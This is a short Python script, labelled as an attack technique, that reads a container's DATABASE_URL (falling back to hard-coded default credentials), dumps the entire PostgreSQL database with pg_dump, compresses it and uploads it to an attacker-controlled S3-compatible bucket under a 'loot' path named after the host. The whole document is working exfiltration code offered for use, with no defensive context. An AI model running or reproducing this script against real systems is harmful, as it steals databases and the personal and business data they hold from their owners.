# technique: dump a database reachable from the container with pg_dump and ship it to an S3-compatible bucket controlled by the attacker
import os, subprocess, gzip, urllib.request
url = os.environ.get("DATABASE_URL", "postgresql://app:app@10.0.5.10:5432/app")
dump = subprocess.run(["pg_dump", "--no-owner", url], capture_output=True).stdout
req = urllib.request.Request("http://203.0.113.80:9000/loot/" + os.uname().nodename + ".sql.gz", data=gzip.compress(dump), method="PUT")
urllib.request.urlopen(req)
